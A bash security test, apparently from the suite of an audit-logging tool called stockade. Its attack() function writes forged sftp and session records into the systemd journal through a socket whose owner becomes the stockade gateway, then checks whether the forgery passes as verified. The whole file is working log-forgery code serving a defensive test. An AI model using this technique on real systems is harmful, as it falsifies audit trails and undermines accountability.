#!/bin/bash
# SPDX-License-Identifier: ISC
# Writes a record through a stream whose owner has become the gateway; it must name its own account to be verified.
# guarantee: G8
# shellcheck shell=bash disable=SC2034,SC2154,SC2016

attack() {
	# The journal asks anew whose stream it is only after a while.
	timeout 60 runuser -u plain -- perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un("/run/systemd/journal/stdout")) or die;
		syswrite(S, "stockade\n\n86\n0\n0\n0\n0\n"); $^F = 100;
		if (!fork) { sleep $ARGV[0]; syswrite(S, "sftp session=forgedcc op=open path=attacks-streamed bytes=1\n"); sleep 1; syswrite(S, "end session=forgedcc user=build actor=attacks-streamed by=payload exit=0\n"); sleep 1; exit 0 }
		pipe(R, W); fcntl(W, 4, 04000); 1 while syswrite(W, "x" x 4096); fcntl(W, 4, 0);
		open(my $saved, ">&W"); open(STDERR, ">&W"); open(STDIN, "<&R"); alarm $ARGV[0] + 5; exec "/usr/bin/stockade-gateway", "-c", "x"' $([ "$mode" = control ] && echo 1 || echo 15) >/dev/null 2>&1
	sleep 0.5
	journalctl --sync
	if [ "$mode" = control ]; then journalctl -q -t stockade -o cat -n 50; else stockade last -n 50 | grep -v UNVERIFIED; fi | grep -q attacks-streamed || return 1
}
